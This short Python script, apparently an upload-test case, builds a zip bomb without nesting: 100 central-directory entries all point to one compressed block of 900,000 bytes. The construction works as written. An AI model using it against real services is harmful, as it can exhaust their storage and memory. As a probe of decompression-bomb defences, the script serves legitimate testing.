# tries: have a hundred members share the same packed bytes, the bomb that needs no nesting
import io
import struct
import zipfile


def upload():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("00.py", b"#" * 900_000)
    data = file.getvalue()
    at = data.index(b"PK\x01\x02")
    table = b"".join(data[at:-22].replace(b"00.py", b"%02d.py" % number) for number in range(100))
    end = data[-22:-14] + struct.pack("<HHII", 100, 100, len(table), at) + data[-2:]
    return {"double.zip": data[:at] + table + end}
